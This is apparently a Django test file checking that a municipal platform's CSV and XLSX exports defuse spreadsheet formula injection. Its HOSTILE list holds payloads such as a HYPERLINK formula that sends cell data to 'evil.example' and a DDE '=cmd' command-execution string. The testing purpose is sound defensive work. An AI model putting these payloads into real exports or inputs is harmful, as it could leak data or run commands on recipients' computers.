"""Formula injection: hostile text goes through every CSV and XLSX export and comes out as inert text.

Every export of the platform is listed in EXPORTS; `test_every_module_that_writes_cells_is_covered`
fails when a module starts exporting through core.exports without being listed here, or writes CSV
or XLSX cells by itself.
"""

import csv
import datetime
import io
import re
from datetime import date
from pathlib import Path

from django.conf import settings
from django.test import SimpleTestCase
from django.urls import reverse
from openpyxl import load_workbook

from core.exports import FORMULA_SIGNS, SafeCsvWriter, SafeWorkbook, Table, csv_bytes, safe_cell
from installation.testing import BaseTestCase, make_idea, make_survey, make_unit
from lessons.testing import make_lesson
from prioritisation.models import RoundCriterion
from prioritisation.tests.test_pages import closed_round
from projects.models import Kpi, Measurement, Milestone, Project
from reports.content import gather
from reports.rendering import render_csv, render_xlsx
from service_inventory.testing import make_local, make_ozg, make_service
from surveys.models import Question, Survey
from surveys.services import GivenAnswer, invitations_create, respondent_key, submit_response

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Klick")',
    "+1",
    "-1",
    "@SUM(1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "  =1+1",
    "\u00a0@SUM(2)",
    "＝1+1",
    "\x0b=cmd|' /C calc'!A0",
]
NUMBER = re.compile(r"-?\d+([.,]\d+)?")
# Modules (outside tests) that export tables through core.exports; each must appear in EXPORTS below.
COVERED = {
    "ideas/exports.py",
    "ideas/views.py",
    "service_inventory/views.py",
    "prioritisation/views.py",
    "service_inventory/exports.py",
    "prioritisation/exports.py",
    "reports/rendering.py",
    "surveys/exports.py",
    "surveys/views.py",
}

EXPORTING = re.compile(r"\bTable\(|\b(csv|xlsx|table)_(bytes|response)\(")
# Writing cells past core.exports: a csv writer, a workbook, a BOM (as an escape or the character).
OWN_WRITING = re.compile(r"csv\.writer\(|\bWorkbook\(|\.writerows?\(|Safe(Workbook|CsvWriter|Sheet)\(|\\ufeff|\ufeff")


def dangerous(value: object) -> bool:
    """Text a spreadsheet program would run as a formula."""
    if not isinstance(value, str) or NUMBER.fullmatch(value):
        return False
    return value[:1] in ("\t", "\r", "\n") or value.lstrip()[:1] in FORMULA_SIGNS


def csv_cells(data: bytes) -> list[str]:
    text = data.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=";") for cell in row]


def xlsx_cells(data: bytes) -> list:
    book = load_workbook(io.BytesIO(data))  # not read-only: data_type tells formulas apart
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


class SafeCellTests(SimpleTestCase):
    def test_hostile_text_gets_an_apostrophe_and_everything_else_stays(self) -> None:
        for text in HOSTILE:
            with self.subTest(text=text):
                self.assertTrue(str(safe_cell(text)).startswith("'"))
                self.assertFalse(dangerous(safe_cell(text)))
        for value in ("Radweg", "Straße = Weg", "", "'schon", 3, -2.5, None, date(2025, 1, 1)):
            with self.subTest(value=value):
                self.assertEqual(safe_cell(value), value)
        self.assertEqual(safe_cell("Ti\x01tel\x0b"), "Titel")

    def test_the_csv_writer_keeps_numbers_as_numbers(self) -> None:
        out = io.StringIO()
        SafeCsvWriter(out, decimal_separator=",").writerow(["-1", -1.5, 2, "=1"])
        self.assertEqual(out.getvalue().strip(), "'-1;-1,5;2;'=1")
        self.assertEqual(csv_bytes(Table(["+1"], [])), "\ufeff'+1\r\n".encode())

    def test_the_workbook_stores_text_never_a_formula(self) -> None:
        book = SafeWorkbook()
        book.sheet("Blatt").append([*HOSTILE, 5])
        cells = xlsx_cells(book.to_bytes())
        self.assertEqual(len(cells), len(HOSTILE) + 1)
        self.assertEqual({cell.data_type for cell in cells}, {"s", "n"})
        self.assertEqual([c.value for c in cells if dangerous(c.value)], [])

    def test_the_workbook_keeps_dates_as_dates_shown_the_german_way(self) -> None:
        book = SafeWorkbook()
        local_time = datetime.datetime(2025, 3, 31, 14, 5)  # noqa: DTZ001 - spreadsheet cells hold local time, no zone
        book.sheet("Blatt").append([datetime.date(2025, 3, 31), local_time, "Text"])
        day, moment, text = xlsx_cells(book.to_bytes())
        self.assertEqual((day.value.date(), day.number_format), (datetime.date(2025, 3, 31), "DD.MM.YYYY"))
        self.assertEqual(moment.number_format, "DD.MM.YYYY HH:MM")
        self.assertEqual(text.value, "Text")


class HostileExportTests(BaseTestCase):
    @classmethod
    def setUpTestData(cls) -> None:
        super().setUpTestData()
        cls.unit = make_unit(name=HOSTILE[3], short_name="+FB")
        for number, text in enumerate(HOSTILE):
            make_idea(title=text, description=HOSTILE[-1 - number], field_of_action=cls.field)
        # Services: catalogue facts and the municipality's own data.
        ozg = make_ozg(name=HOSTILE[0], lebenslage=HOSTILE[4], themenfeld=HOSTILE[5])
        for text in HOSTILE:
            service = make_service(ozg=ozg, name=text, leistungstyp="-", legal_basis=HOSTILE[6])
            make_local(service=service, unit=cls.unit, pain_points=text, online_url="https://example.org/" + text[:5])
        # A council report with hostile project, unit, milestone, key figure and lesson titles.
        for text in HOSTILE:
            project = Project.objects.create(title=text, unit=cls.unit, budget_planned=-5)
            project.fields_of_action.add(cls.field)
            Milestone.objects.create(
                project=project, title=text, definition_of_done="x", due_on=date(2025, 3, 1), done_on=date(2025, 2, 1)
            )
            kpi = Kpi.objects.create(project=project, name=text, unit="@", target=1)
            Measurement.objects.create(kpi=kpi, measured_on=date(2025, 5, 1), value=-1)
            make_lesson(title=text, project=project, published_at="2025-06-01T10:00:00+00:00")

        # A survey with hostile questions, answers and invitation labels.
        cls.survey = make_survey(title=HOSTILE[0])
        single, _multiple, _scale, text = cls.survey.questions.all()
        Question.objects.filter(pk=text.pk).update(text="=Frage()")
        single.choices.filter(position=0).update(label="@Wahl")
        for number, hostile in enumerate(HOSTILE):
            submit_response(
                survey=cls.survey,
                key=respondent_key(cls.survey, browser=f"hostile-{number}"),
                answers=[GivenAnswer(single, [single.choices.first()]), GivenAnswer(text, [], text=hostile)],
            )
        cls.invited = make_survey(title=HOSTILE[0], audience=Survey.Audience.INVITATION)
        invitations_create(survey=cls.invited, labels=HOSTILE, stakeholders=[])

    def setUp(self) -> None:
        super().setUp()
        self.login(self.team)

    def ranking_round(self):
        priority_round = closed_round(self, ideas=len(HOSTILE))
        priority_round.title = HOSTILE[0]
        priority_round.save()
        for candidate, text in zip(priority_round.candidates.select_related("idea"), HOSTILE, strict=False):
            candidate.idea.title = text
            candidate.idea.save()
        RoundCriterion.objects.filter(priority_round=priority_round, name="Nutzen").update(name="=Nutzen()")
        return priority_round

    def report_content(self):
        return gather(title=HOSTILE[0], start=date(2025, 1, 1), end=date(2025, 12, 31), include_internal=True)

    def get(self, url: str) -> bytes:
        response = self.client.get(url)
        self.assertEqual(response.status_code, 200, url)
        return response.content

    EXPORTS = {
        "ideas CSV": lambda self: ("csv", self.get(reverse("ideas:export_csv"))),
        "ideas XLSX": lambda self: ("xlsx", self.get(reverse("ideas:export_xlsx"))),
        "services CSV": lambda self: ("csv", self.get(reverse("services:export_csv"))),
        "services XLSX": lambda self: ("xlsx", self.get(reverse("services:export_xlsx"))),
        "ranking CSV": lambda self: (
            "csv",
            self.get(reverse("prioritisation:ranking_csv", args=[self.ranking_round().pk])),
        ),
        "ranking XLSX": lambda self: (
            "xlsx",
            self.get(reverse("prioritisation:ranking_xlsx", args=[self.ranking_round().pk])),
        ),
        "council report CSV": lambda self: ("csv", render_csv(self.report_content())),
        "council report XLSX": lambda self: ("xlsx", render_xlsx(self.report_content())),
        "survey answers CSV": lambda self: ("csv", self.get(reverse("surveys:export", args=[self.survey.pk, "csv"]))),
        "survey answers XLSX": lambda self: (
            "xlsx",
            self.get(reverse("surveys:export", args=[self.survey.pk, "xlsx"])),
        ),
    }

    def test_hostile_text_comes_out_of_every_export_as_inert_text(self) -> None:
        for name, export in self.EXPORTS.items():
            with self.subTest(name):
                kind, data = export(self)
                if kind == "csv":
                    cells = csv_cells(data)
                    values = cells
                else:
                    cells = xlsx_cells(data)
                    self.assertEqual([c.coordinate for c in cells if c.data_type == "f"], [])
                    values = [c.value for c in cells]
                self.assertEqual([v for v in values if dangerous(v)], [])
                # The hostile texts are all there, kept as text behind the apostrophe.
                self.assertIn("'" + HOSTILE[0], values)

    def test_the_invitation_links_csv_is_inert_text(self) -> None:
        cells = csv_cells(self.get(reverse("surveys:invitations_csv", args=[self.invited.pk])))
        self.assertIn("'" + HOSTILE[0], cells)
        self.assertEqual([v for v in cells if dangerous(v)], [])


class CoverageTests(SimpleTestCase):
    def test_every_module_that_writes_cells_is_covered(self) -> None:
        base = Path(settings.BASE_DIR)
        exporters, own_writers = set(), set()
        for path in base.glob("*/**/*.py"):
            relative = path.relative_to(base).as_posix()
            if relative.startswith((".venv/", "var/", "static")) or "/tests/" in relative or "/migrations/" in relative:
                continue
            if relative == "core/exports.py":
                continue
            text = path.read_text(encoding="utf-8")
            if EXPORTING.search(text):
                exporters.add(relative)
            if OWN_WRITING.search(text):
                own_writers.add(relative)
        self.assertEqual(exporters - COVERED, set(), "add the new export to EXPORTS and COVERED")
        self.assertEqual(COVERED - exporters, set(), "COVERED names a module that exports nothing")
        self.assertEqual(own_writers, set(), "write CSV and XLSX through core.exports (Table, csv_response, …)")
